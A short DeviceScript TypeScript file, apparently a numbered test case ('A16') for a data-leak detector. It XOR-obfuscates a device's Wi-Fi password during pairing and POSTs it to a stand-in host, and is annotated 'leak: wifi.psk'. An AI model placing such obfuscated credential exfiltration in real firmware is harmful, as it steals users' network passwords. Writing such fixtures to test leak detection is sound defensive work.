// A16: each byte XOR a constant.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

/** A copy of the text's bytes, each changed. */
function changed(text: string, change: (byte: number, index: number) => number) {
  const bytes = Buffer.from(text);
  for (let i = 0; i < bytes.length; i++) bytes[i] = change(bytes[i], i);
  return bytes;
}

paired(async (_ssid, psk) => {
  const body = changed(psk, (byte) => byte ^ 0x5a);
  const response = await fetch("https://cloud.example/a16", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
